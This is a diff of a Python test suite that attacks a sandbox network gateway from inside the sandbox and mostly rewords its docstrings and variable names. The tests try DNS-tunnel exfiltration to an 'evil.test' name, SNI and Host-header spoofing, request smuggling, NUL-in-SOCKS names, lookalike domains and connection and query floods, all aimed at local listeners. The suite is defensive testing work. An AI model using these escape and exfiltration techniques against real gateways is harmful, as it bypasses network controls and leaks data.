@@ -1,7 +1,7 @@
-"""G: the network, with one host allowed: only that host is reached, by whatever name, header or hello.
+"""G: the network with one host allowed: only that host is reached, whatever name, header or TLS hello the guest sends.
 
-The control is a check of the gateway's, which the arm "off" takes out of this process while it lasts. Every target is a
-listener of ours on this machine; names are looked up in a table of the case's own.
+The control is a check of the gateway, which the arm "off" removes from this process until the arm ends. Every target is
+a listener that the case starts on this machine; names are looked up in a table of the case.
 """
 
 from __future__ import annotations
@@ -36,7 +36,7 @@ def send(address, *parts, wait=True):
         for part in parts:
             sock.sendall(part if isinstance(part, bytes) else part.encode("latin-1"))
             if wait: sock.settimeout(1); got = sock.recv(4096)
-        if not wait: time.sleep(0.4)  # for it to arrive, were it let through
+        if not wait: time.sleep(0.4)  # time to arrive, if the gateway lets the data through
         return got if wait else None
 def hello(name):
     incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
@@ -50,30 +50,30 @@ proxy = ("127.0.0.1", 3128)
 
 
 def _careless(arm: Arm, owner: object, name: str, value: object) -> None:
-    """Take a check out of the gateway, in the arm without it, until the arm ends."""
+    """Replace a check of the gateway by a careless check until the arm ends, if this is the arm "off"."""
     if arm.off:
         arm.enter(replaced(owner, name, value))
 
 
 def _nothing(*_: object, **__: object) -> None:
-    """A check that never refuses."""
+    """Do nothing: a check that never refuses."""
 
 
 def _internet(arm: Arm, names: dict[str, str]) -> list[str]:
-    """Give the gateway's resolver these names while the arm lasts. Returns the list of names that were asked for."""
-    asked: list[str] = []
+    """Make the gateway resolve only these names until the arm ends. Returns a list that gets each name looked up."""
+    looked_up: list[str] = []
 
     def lookup(name: str, port: int) -> list[str]:
         del port
-        asked.append(name)
-        # As libraries in C do, it reads a name up to a NUL.
+        looked_up.append(name)
+        # A name is read up to a NUL, as libraries in C do.
         found = names.get(name.partition("\0")[0])
         if found is None:
             raise OSError("no such name")
         return [found]
 
     arm.enter(replaced(service().resolver, "lookup", lookup))
-    return asked
+    return looked_up
 
 
 def _policy(
@@ -85,14 +85,14 @@ def _policy(
 
 
 def _needs_http() -> None:
-    """Plain HTTP is passed on only where it can be read."""
+    """Raise NotApplicable where the gateway cannot read plain HTTP, and therefore refuses it."""
     if not import_path.is_installed("h11"):
         raise NotApplicable("plain HTTP is refused: the package h11 is not installed")
 
 
-def _came(listener: Listener, told: str, *, with_: bytes = b"") -> Seen:
+def _came(listener: Listener, words: str, *, with_: bytes = b"") -> Seen:
     came = [data for data in listener.received() if with_ in data]
-    return Seen(bool(came), f"{len(came)} connections; {told}")
+    return Seen(bool(came), f"{len(came)} connections; {words}")
 
 
 @attack(
@@ -109,8 +109,8 @@ def rebinding(arm: Arm) -> Seen:
     _careless(arm, dial, "fault", _nothing)
     code = _GUEST + "attempt('tls', send, ('rebind.test', port), hello('rebind.test'))"
     policy = _policy(f"rebind.test:{listener.port}", private=False)
-    told = arm.python(code, policy=policy, port=listener.port)
-    return _came(listener, told.words())
+    report = arm.python(code, policy=policy, port=listener.port)
+    return _came(listener, report.words())
 
 
 _EXFIL = """
@@ -120,22 +120,22 @@ for name in ("secret-data.evil.test", "more-data.web.test.evil.test"):
 """
 
 
-@attack("G09", "a name that is not permitted is looked up by nobody", LEAK, off=HOST_CODE, label="own resolver")
+@attack("G09", "a name that is not permitted is not looked up", LEAK, off=HOST_CODE, label="own resolver")
 def dns_tunnel(arm: Arm) -> Seen:
-    asked = _internet(arm, {"evil.test": _LOOPBACK})
+    looked_up = _internet(arm, {"evil.test": _LOOPBACK})
     whole = resolving.lookup
 
-    def forwarding(one: interfaces.Directory, name: str) -> str | None:
+    def forwarding(directory: interfaces.Directory, name: str) -> str | None:
         with contextlib.suppress(OSError):
             service().resolver.lookup(name, 443)
-        return whole(one, name)
+        return whole(directory, name)
 
     _careless(arm, resolving, "lookup", forwarding)
-    told = arm.python(_EXFIL, policy=_policy("web.test"))
-    return Seen(bool(asked), f"{len(asked)} look-ups; {told.words()}")
+    report = arm.python(_EXFIL, policy=_policy("web.test"))
+    return Seen(bool(looked_up), f"{len(looked_up)} look-ups; {report.words()}")
 
 
-@attack("G10", "a hello for another server does not pass", ESCAPE, off=HOST_CODE, label="SNI check")
+@attack("G10", "a TLS hello for another server does not pass", ESCAPE, off=HOST_CODE, label="SNI check")
 def other_server_name(arm: Arm) -> Seen:
     listener = arm.listen_tcp()
     _internet(arm, {"web.test": _LOOPBACK})
@@ -146,8 +146,8 @@ def other_server_name(arm: Arm) -> Seen:
         "cut = hello('evil.test')\n"
         "attempt('split', send, ('web.test', port), cut[:7], cut[7:40], cut[40:], wait=False)\n"
     )
-    told = arm.python(code, policy=_policy(f"web.test:{listener.port}"), port=listener.port)
-    return _came(listener, told.words(), with_=b"evil.test")
+    report = arm.python(code, policy=_policy(f"web.test:{listener.port}"), port=listener.port)
+    return _came(listener, report.words(), with_=b"evil.test")
 
 
 @attack("G10-literal", "CONNECT to an address that is not listed leads nowhere", ESCAPE, off=HOST_CODE, label="rules")
@@ -159,8 +159,8 @@ def connect_to_address(arm: Arm) -> Seen:
         "    request = 'CONNECT %s:%d HTTP/1.1\\r\\n\\r\\n' % (name, port)\n"
         "    attempt(name, send, proxy, request, hello(None))\n"
     )
-    told = arm.python(code, policy=_policy("web.test"), port=listener.port)
-    return _came(listener, told.words())
+    report = arm.python(code, policy=_policy("web.test"), port=listener.port)
+    return _came(listener, report.words())
 
 
 def _permit_all(_: rules.NetworkRules, name: str, port: int) -> rules.Verdict:
@@ -179,8 +179,8 @@ def other_host_header(arm: Arm) -> Seen:
         "attempt('direct', send, ('web.test', port), 'GET / HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n')\n"
         "attempt('proxy', send, proxy, 'GET http://web.test:%d/ HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n' % port)\n"
     )
-    told = arm.python(code, policy=_policy(f"web.test:{listener.port}"), port=listener.port)
-    return _came(listener, told.words(), with_=b"evil.test")
+    report = arm.python(code, policy=_policy(f"web.test:{listener.port}"), port=listener.port)
+    return _came(listener, report.words(), with_=b"evil.test")
 
 
 @attack(
@@ -202,8 +202,8 @@ def smuggling(arm: Arm) -> Seen:
         "for extra in ('A: b\\nC: d\\r\\n', 'A: b\\r\\n folded\\r\\n', 'Content-Length: 4\\r\\n' * 2):\n"
         "    attempt(extra, send, ('web.test', port), start + extra + '\\r\\nabcd')\n"
     )
-    told = arm.python(code, policy=_policy(f"web.test:{listener.port}"), port=listener.port)
-    return _came(listener, told.words())
+    report = arm.python(code, policy=_policy(f"web.test:{listener.port}"), port=listener.port)
+    return _came(listener, report.words())
 
 
 @attack(
@@ -223,13 +223,13 @@ def redirect(arm: Arm) -> Seen:
         "request = 'GET http://evil.test:%d/ HTTP/1.1\\r\\nHost: evil.test:%d\\r\\n\\r\\n' % (port, port)\n"
         "attempt('redirected', send, proxy, request)"
     )
-    told = arm.python(code, policy=_policy("web.test"), port=listener.port)
-    return _came(listener, told.words())
+    report = arm.python(code, policy=_policy("web.test"), port=listener.port)
+    return _came(listener, report.words())
 
 
 @attack(
     "G14",
-    "a name that only ends like a permitted one is another name",
+    "a name that only ends like a permitted name does not pass",
     ESCAPE,
     off=HOST_CODE,
     needs="network",
@@ -245,13 +245,13 @@ def lookalike_names(arm: Arm) -> Seen:
         "    request = 'GET / HTTP/1.1\\r\\nHost: %s:%d\\r\\n\\r\\n' % (name, port)\n"
         "    attempt(name, send, (name, port), request)"
     )
-    told = arm.python(code, policy=_policy(f"web.test:{listener.port}"), port=listener.port)
-    return _came(listener, told.words())
+    report = arm.python(code, policy=_policy(f"web.test:{listener.port}"), port=listener.port)
+    return _came(listener, report.words())
 
 
-@attack("G15", "a NUL in a SOCKS name does not make it another name", ESCAPE, off=HOST_CODE, label="name grammar")
+@attack("G15", "a NUL in a SOCKS name does not lead to another host", ESCAPE, off=HOST_CODE, label="name grammar")
 def nul_in_socks(arm: Arm) -> Seen:
-    """The suffix matched, and the resolver read up to the NUL: so one peer was broken."""
+    """A proxy of another project was broken this way: the suffix matched, and the resolver read up to the NUL."""
     listener = arm.listen_tcp()
     _internet(arm, {"evil.test": _LOOPBACK})
     _careless(arm, socks, "canonical_host", str.lower)
@@ -261,15 +261,15 @@ def nul_in_socks(arm: Arm) -> Seen:
         "attempt('socks', send, proxy, b'\\5\\1\\0', request, b'hello')\n"
     )
     rule = Rule(f"*.web.test:{listener.port}", protocol="tcp")
-    told = arm.python(code, policy=_policy(rules=(rule,)), port=listener.port)
-    return _came(listener, told.words())
+    report = arm.python(code, policy=_policy(rules=(rule,)), port=listener.port)
+    return _came(listener, report.words())
 
 
 @attack(
-    "G25", "while the gateway is down nothing passes", ESCAPE, off=HOST_CODE, label="listeners of the gateway's own"
+    "G25", "no data passes while the gateway is down", ESCAPE, off=HOST_CODE, label="listeners of the gateway's own"
 )
 def gateway_down(arm: Arm) -> Seen:
-    """The arm "off" leaves the resolver running: another way out would be open in both arms."""
+    """On: the gateway is stopped before the guest connects. Off: the gateway runs, and the connection arrives."""
     listener = arm.listen_tcp()
     _internet(arm, {"web.test": _LOOPBACK})
     rule = Rule(f"web.test:{listener.port}", protocol="tcp")
@@ -278,8 +278,8 @@ def gateway_down(arm: Arm) -> Seen:
     if not arm.off:
         arm.enter(_stopped())
     code = _GUEST + "attempt('tcp', send, (at, port), b'hello', wait=False)"
-    told = arm.python(code, box=box, at=resolved, port=listener.port)
-    return _came(listener, told.words())
+    report = arm.python(code, box=box, at=resolved, port=listener.port)
+    return _came(listener, report.words())
 
 
 @contextlib.contextmanager
@@ -298,9 +298,9 @@ def upload_budget(arm: Arm) -> Seen:
     _careless(arm, registration.Registration, "count_up", _nothing)
     code = _GUEST + "attempt('tcp', send, ('web.test', port), b'x' * 3000, wait=False)"
     rule = Rule(f"web.test:{listener.port}", protocol="tcp")
-    told = arm.python(code, policy=_policy(rules=(rule,), upload="1K"), port=listener.port)
+    report = arm.python(code, policy=_policy(rules=(rule,), upload="1K"), port=listener.port)
     came = sum(len(data) for data in listener.received())
-    return Seen(came > 1024, f"{came} bytes; {told.words()}")
+    return Seen(came > 1024, f"{came} bytes; {report.words()}")
 
 
 _HOLDS = (
@@ -320,16 +320,17 @@ tell(held=len(held))
 )
 
 
-@attack("F26", "a flood of connections stays inside", DOS, off=HOST_CODE, label="connection budget")
+@attack("F26", "a flood of connections ends at the connection budget", DOS, off=HOST_CODE, label="connection budget")
 def connection_flood(arm: Arm) -> Seen:
-    """Open forty connections at once where eight are allowed, and hold them. The witness counts senders."""
+    """Open forty connections at once where eight are allowed, and keep them open. The witness counts connections that
+    sent something."""
     listener = arm.listen_tcp()
     _internet(arm, {"web.test": _LOOPBACK})
     rule = Rule(f"web.test:{listener.port}", protocol="tcp")
     policy = _policy(rules=(rule,), connections=64 if arm.off else 8)
-    told = arm.python(_HOLDS, policy=policy, port=listener.port)
+    report = arm.python(_HOLDS, policy=policy, port=listener.port)
     came = sum(bool(data) for data in listener.received(0.05))
-    return Seen(came > 8, f"{came} connections came; {told.words()}")
+    return Seen(came > 8, f"{came} connections came; {report.words()}")
 
 
 _ASKS = """
@@ -344,10 +345,10 @@ with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
 """
 
 
-@attack("F27", "a flood of DNS queries stays inside", DOS, off=HOST_CODE, label="query budget")
+@attack("F27", "a flood of DNS queries ends at the query budget", DOS, off=HOST_CODE, label="query budget")
 def query_flood(arm: Arm) -> Seen:
-    """Send four hundred queries where the budget, made small here, has fifty and few more a second. The witness is the
-    gateway's own reading of queries."""
+    """Send four hundred queries where the budget, made small here, has fifty and twenty more a second. The witness
+    counts the queries that the gateway read."""
     read: list[bytes] = []
     whole = dns.parse
 
@@ -359,8 +360,8 @@ def query_flood(arm: Arm) -> Seen:
     arm.enter(replaced(registration, "SANDBOX_BURST", 50.0))
     arm.enter(replaced(registration, "SANDBOX_RATE", 20.0))
     _careless(arm, budget.Bucket, "take", lambda _: True)
-    told = arm.python(_ASKS, policy=_policy("web.test"))
-    return Seen(len(read) > 200, f"{len(read)} queries were read; {told.words()}")
+    report = arm.python(_ASKS, policy=_policy("web.test"))
+    return Seen(len(read) > 200, f"{len(read)} queries were read; {report.words()}")
 
 
 CASES = cases(globals())
